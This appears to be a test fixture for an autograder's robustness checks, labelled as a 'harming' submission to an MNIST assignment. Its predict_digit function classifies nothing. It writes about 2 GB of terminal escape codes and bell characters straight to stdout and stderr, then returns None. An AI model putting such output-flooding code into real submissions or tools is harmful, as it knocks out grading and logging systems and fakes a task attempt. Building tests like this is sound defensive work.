# assignment: mnist_adam
# family: harming
# about: writes 2 GB straight to descriptors 1 and 2, past Python's streams
# loses: predict_digit
# may_lose:
# flag: maybe
# %% predict_digit
import os


def predict_digit(model, image):
    block = b"\x1b[31mflood\x07\r" * 100_000
    for _ in range(1000):
        for descriptor in (1, 2):
            os.write(descriptor, block)
    return None
